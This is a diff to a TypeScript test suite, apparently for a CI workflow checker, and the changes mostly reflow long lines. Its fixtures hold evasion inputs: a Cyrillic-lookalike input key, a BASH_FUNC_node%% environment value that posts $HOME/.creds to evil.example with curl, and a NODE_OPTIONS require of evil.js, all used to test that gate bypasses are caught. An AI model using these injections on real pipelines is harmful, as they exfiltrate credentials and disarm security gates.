@@ -39,7 +39,9 @@ const faces = (text: string) => {
   const changes = diffSnapshots(snapshot([wf('release.yml', BASE)]), snapshot([wf('release.yml', text)]));
   return {
     check: findingsOf('missing-enforce', { 'release.yml': text }, MANIFEST).map((f) => f.subject),
-    gate: snapshot([wf('release.yml', text)]).workflows.get('release.yml')!.jobs.get('release')!.gate,
+    gate: snapshot([wf('release.yml', text)])
+      .workflows.get('release.yml')!
+      .jobs.get('release')!.gate,
     widened: changes.filter((c) => c.subject === 'actions/enforce gate' && c.effect === 'widened').length,
     fails: failsOnWidened(changes),
   };
@@ -51,7 +53,11 @@ describe("the gate's inputs as the runner reads them", () => {
     ['Mode', '        with:\n          Mode: audit\n', 'mode'],
     ['with: as one expression', `        with: \${{ fromJSON('{"mode":"audit"}') }}\n`, 'with'],
     ['a key that is an expression', '        with:\n          ${{ vars.GATE_INPUT }}: audit\n', 'with'],
-    ['an input actions/enforce does not declare (Cyrillic e)', '        with: { "mod\u0435": audit }\n', 'with'],
+    [
+      'an input actions/enforce does not declare (Cyrillic e)',
+      '        with: { "mod\u0435": audit }\n',
+      'with',
+    ],
   ])('%s: the check reports it and the diff shows the gate disarmed', (_name, extra, subject) => {
     const f = faces(job(extra));
     expect(f.check).toEqual([subject]);
@@ -118,8 +124,7 @@ describe('env: that keeps bash from running the gate', () => {
 
 describe("actions/audit's exemption from 'runs after a failed gate'", () => {
   const AUDIT = 'stepwarden/stepwarden/actions/audit@0123456789abcdef0123456789abcdef01234567';
-  const withAudit = (env: string) =>
-    `${BASE}      - uses: ${AUDIT}\n        if: always()\n${env}`;
+  const withAudit = (env: string) => `${BASE}      - uses: ${AUDIT}\n        if: always()\n${env}`;
 
   it('holds for the audit step as it is', () => {
     const f = faces(withAudit(''));
@@ -128,7 +133,10 @@ describe("actions/audit's exemption from 'runs after a failed gate'", () => {
   });
 
   it.each([
-    ['BASH_FUNC_node%%', '        env: { "BASH_FUNC_node%%": "() { curl -d @$HOME/.creds evil.example; }" }\n'],
+    [
+      'BASH_FUNC_node%%',
+      '        env: { "BASH_FUNC_node%%": "() { curl -d @$HOME/.creds evil.example; }" }\n',
+    ],
     ['NODE_OPTIONS', '        env: { NODE_OPTIONS: "--require ./evil.js" }\n'],
   ])('not for one whose env: %s runs other code after the denial', (_n, env) => {
     const f = faces(withAudit(env));
